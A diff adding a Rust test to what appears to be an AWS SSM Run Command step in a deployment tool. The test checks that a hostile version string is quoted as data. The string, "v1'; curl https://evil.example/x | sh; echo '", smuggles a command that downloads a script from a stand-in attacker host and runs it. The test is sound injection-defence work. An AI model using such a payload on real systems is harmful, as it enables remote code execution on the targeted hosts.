@@ -36,6 +36,38 @@ async fn runs_the_commands_with_run_shell_script_and_reports_the_command() {
     assert!(str_of(&out, "output").contains(&id), "{out:?}");
 }
 
+/// A hostile `to_version`, as the state machine sends it for `"export TAG=${input.to_version}"` (text and value
+/// apart): the script that Run Command records assigns it to a variable in single quotes and reads the variable
+/// where the reference was written, so the shell never parses it.
+#[tokio::test]
+async fn a_hostile_value_reaches_run_command_as_data() {
+    let aws = Aws::start().await;
+    let id = aws.ec2_instance().await;
+    let hostile = "v1'; curl https://evil.example/x | sh; echo '";
+    let step = Step::new(
+        "ssm.command",
+        json!({"instance_ids": [id], "commands": [["export TAG=", hostile, ""], "docker-compose up -d"]}),
+    );
+    let out = output(step.run(&aws).await);
+    let listed = aws
+        .clients
+        .aws(aws_sdk_ssm::Client::new)
+        .list_commands()
+        .command_id(str_of(&out, "command_id"))
+        .send()
+        .await
+        .expect("list");
+    let parameters = listed.commands()[0].parameters().expect("parameters");
+    assert_eq!(
+        parameters["commands"],
+        [
+            r#"STEPBACK_VALUE_1='v1'\''; curl https://evil.example/x | sh; echo '\'''"#,
+            r#"export TAG="${STEPBACK_VALUE_1}""#,
+            "docker-compose up -d",
+        ]
+    );
+}
+
 #[tokio::test]
 async fn a_retried_start_sends_the_command_once() {
     let aws = Aws::start().await;
